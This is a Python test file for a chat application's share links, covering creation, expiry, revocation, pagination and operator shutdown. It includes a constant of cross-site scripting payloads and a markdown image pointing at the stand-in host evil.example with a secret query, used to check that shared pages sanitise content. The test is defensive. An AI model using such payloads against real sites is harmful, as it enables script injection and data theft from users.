"""Share links as people meet them: made by an owner, opened in a browser without an account, ended and revoked."""

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.journeys.acting import ask_until_waiting, bash, calls, says
from tests.journeys.house import Answer, House, Opening, Person
from tests.promises import keeps
from tests.vendor import FakeVendor

pytestmark = pytest.mark.timeout(120)

# Text that tries to act, to load something, or to leave its place.
HOSTILE = """
<script>alert(1)</script><img src=x onerror=alert(1)> </title></style><svg onload=alert(1)>
![pixel](https://evil.example/p.png?secret=1) [x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)
<https://evil.example/"onmouseover="alert(1)> [z](https://evil.example/ "a\\" onclick=\\"alert(1)")
<javascript:alert(1)> [ref]: javascript:alert(1) &lt;script&gt; `<b>` [a](vbscript:x) [b](//evil.example)
```html" onload="alert(1)
<iframe src=https://evil.example></iframe>
```
"""


class Page(HTMLParser):
    """A page as a browser reads it: which elements it has with which attributes, and its words."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


async def opened(house: House, link: str, **more: Any) -> Answer:
    """What a browser of nobody gets."""
    async with house.client.get(house.url + link, **more) as reply:
        headers = {name.lower(): said for name, said in reply.headers.items()}
        return Answer(reply.status, headers, await reply.read(), str(reply.url))


async def conversation(person: Person, vendor: FakeVendor, prompt: str, answer: str) -> str:
    """A session in which one thing was asked."""
    vendor.next(says(answer))
    session_id = (await person.post("/sessions", {"system_prompt": "Be a secret heron."}))["id"]
    await person.post("/query/single", {"prompt": prompt, "session_id": session_id})
    return session_id


@keeps("sharing:links")
async def test_a_link_shows_the_branch_as_it_was_and_ends_when_its_owner_says_so(
    house: House, vendor: FakeVendor
) -> None:
    ada, eve = await house.stranger(), await house.stranger()
    session_id = await conversation(ada, vendor, "What is a **palaver** tree?", "A place to _talk_.")
    at = f"/sessions/{session_id}/share-links"
    made = await ada.post(at)
    first = await opened(house, made["link"])
    assert first.status == 200
    page = Page(first.body.decode())
    assert "What is a palaver tree?" in page.words
    assert ("strong", {}) in page.elements
    assert ("em", {}) in page.elements
    assert "heron" not in first.body.decode()
    assert "Ada" not in first.body.decode()
    await ada.patch(f"/sessions/{session_id}", {"title": "Another title"})
    await ada.post("/query/single", {"prompt": "and now?", "session_id": session_id})
    asked = (await ada.messages(session_id))[0]["id"]
    await ada.patch(f"/messages/{asked}", {"text": "other words", "metadata": {"note": "kingfisher"}})
    assert (await opened(house, made["link"])).body == first.body
    listed = (await ada.get(at))["items"]
    assert [one["id"] for one in listed] == [made["id"]]
    assert made["link"].rpartition("/")[2] not in str(listed)
    assert (await eve.call("GET", at)).status == 404
    assert (await eve.call("POST", at, {})).status == 404
    assert (await eve.call("DELETE", f"{at}/{made['id']}")).status == 404
    assert (await ada.call("DELETE", f"{at}/{made['id']}")).status == 204
    gone, never = await opened(house, made["link"]), await opened(house, "/shared/" + "A" * 43)
    assert (gone.status, gone.body) == (404, never.body) == (404, (await opened(house, "/shared/x")).body)


@keeps("sharing:links")
async def test_a_link_ends_with_its_time_its_message_its_session_and_its_maker(
    house: House, owner: Person, vendor: FakeVendor
) -> None:
    ada, bob = await house.stranger(), await house.stranger()
    session_id = await conversation(ada, vendor, "one", "two")
    at = f"/sessions/{session_id}/share-links"
    links = [(await ada.post(at, {"message_id": one["id"]}))["link"] for one in await ada.messages(session_id)]
    assert "two" not in Page((await opened(house, links[0])).body.decode()).words
    for wrong in (datetime.now(UTC) - timedelta(seconds=1), datetime.now(UTC) + timedelta(days=400)):
        assert (await ada.call("POST", at, {"expires_at": wrong.isoformat()})).status == 422
    ended = await ada.post(at)
    with house.writing() as link:
        link.execute("update share_links set expires_at = ? where id = ?", ("2026-01-01T00:00:00.000000Z", ended["id"]))
    assert (await opened(house, ended["link"])).status == 404
    assert len((await ada.get(at))["items"]) == 2
    answered = (await ada.messages(session_id))[1]["id"]
    assert (await ada.call("DELETE", f"/messages/{answered}")).status == 204
    assert [(await opened(house, one)).status for one in links] == [200, 404]
    with house.writing() as link:
        link.execute("update users set disabled_at = 'now' where id = (select user_id from share_links limit 1)")
    assert (await opened(house, links[0])).status == 404
    with house.writing() as link:
        link.execute("update users set disabled_at = null")
    assert (await opened(house, links[0])).status == 200
    assert (await ada.call("DELETE", f"/sessions/{session_id}")).status == 204
    assert (await opened(house, links[0])).status == 404
    assert house.count("share_links") == 0
    audited = [one["kind"] for one in (await owner.get("/audit"))["items"]]
    assert audited.count("share_link.created") == 3
    empty = (await bob.post("/sessions", {}))["id"]
    assert (await bob.call("POST", f"/sessions/{empty}/share-links", {})).status == 409


@keeps("sharing:links:safe")
async def test_nothing_that_was_said_acts_on_the_page_and_no_secret_stands_in_a_log(
    open_house: Opening, vendor: FakeVendor
) -> None:
    house = await open_house(observability__log_level="debug")
    ada = await house.stranger()
    vendor.next(calls(bash("call_1")))
    heard = await ask_until_waiting(ada, HOSTILE)
    session_id = heard[0].data["session_id"]
    await ada.post(f"/runs/{heard[0].data['run_id']}/answers", {"call_id": "call_1", "decision": "reject"})
    await ada.until(f"/sessions/{session_id}", lambda one: one["status"] == "idle")
    plain = await ada.post(f"/sessions/{session_id}/share-links")
    whole = await ada.post(f"/sessions/{session_id}/share-links", {"tools": True, "reasoning": True})
    words = ""
    for link in (plain["link"], whole["link"]):
        answer = await opened(house, link)
        page = Page(answer.body.decode())
        check(page)
        words = page.words
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; style-src 'sha256-")
        assert "sandbox" in policy
        assert "allow-scripts" not in policy
        assert answer.headers["x-robots-tag"] == "noindex, nofollow, noarchive"
        assert answer.headers["cache-control"] == "private, no-store"
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "set-cookie" not in answer.headers
    assert "Asked the tool" in words
    assert "Asked the tool" not in Page((await opened(house, plain["link"])).body.decode()).words
    await opened(house, plain["link"] + "?page=abc")
    await house.client.post(house.url + plain["link"])
    metrics = await opened(house, "/metrics")
    for link in (plain["link"], whole["link"]):
        secret = link.rpartition("/")[2].encode()
        assert secret not in house.log.read_bytes()
        assert secret not in metrics.body
        assert house.rows("select count(*) from share_links where hash = ?", secret.decode())[0][0] == 0


async def test_a_long_branch_is_turned_like_pages_and_names_are_told_where_they_are_wanted(
    house: House, vendor: FakeVendor
) -> None:
    ada, eve = await house.stranger(), await house.stranger()
    session_id = (await ada.post("/sessions", {}))["id"]
    body = {"user_id": (await eve.get("/auth/me"))["user"]["id"], "role": "editor"}
    await ada.post(f"/sessions/{session_id}/members", body)
    parent = None
    for number in range(51):
        more = {"parent_message_id": parent} if parent else {}
        vendor.next(says(f"answer {number}."))
        parent = (await ada.post("/query/single", {"prompt": f"ask {number}.", "session_id": session_id, **more}))["id"]
    link = (await ada.post(f"/sessions/{session_id}/share-links", {"authors": True}))["link"]
    first, second = [Page((await opened(house, f"{link}?page={page}")).body.decode()) for page in (0, 1)]
    assert ("ask 49." in first.words, "ask 50." in first.words) == (True, False)
    assert ("ask 49." in second.words, "ask 50." in second.words) == (False, True)
    assert "Ada" in first.words
    found = [one["href"] for tag, one in first.elements + second.elements if tag == "a"]
    assert found == ["?page=1", "https://findahelpline.com", "?page=0", "https://findahelpline.com"]
    assert (await opened(house, f"{link}?page=2")).status == 404


async def test_an_operator_turns_share_links_off_also_those_that_are_there(
    open_house: Opening, vendor: FakeVendor
) -> None:
    house = await open_house()
    ada = await house.stranger()
    session_id = await conversation(ada, vendor, "one", "two")
    link = (await ada.post(f"/sessions/{session_id}/share-links"))["link"]
    assert (await opened(house, link)).status == 200
    await house.end()
    house.settings["PALAVER_SESSIONS__SHARE_LINKS"] = "false"
    await house.start()
    assert (await opened(house, link)).status == 404
    assert (await ada.call("POST", f"/sessions/{session_id}/share-links", {})).status == 403


def check(page: Page) -> None:
    """Nothing on it acts or is loaded."""
    may = {"a": {"href", "rel"}, "meta": {"charset", "name", "content"}, "html": {"lang"}, "h1": {"dir"}}
    may |= {"div": {"dir", "class"}, "p": {"class"}, "ol": {"start"}, "code": {"class"}}
    for tag, attributes in page.elements:
        assert tag in _ELEMENTS, tag
        assert set(attributes) <= may.get(tag, set()), (tag, attributes)
        if tag == "a":
            assert re.match(r"(?:https?://|mailto:|\?page=\d+$)", attributes["href"] or ""), attributes
            assert attributes["href"].startswith("?") or "noreferrer" in (attributes["rel"] or "")


_ELEMENTS = frozenset(
    "html head meta title style body h1 h2 h3 h4 h5 h6 main section div p a em strong s code pre ul ol li blockquote "
    "table thead tbody tr th td hr br nav footer".split()
)
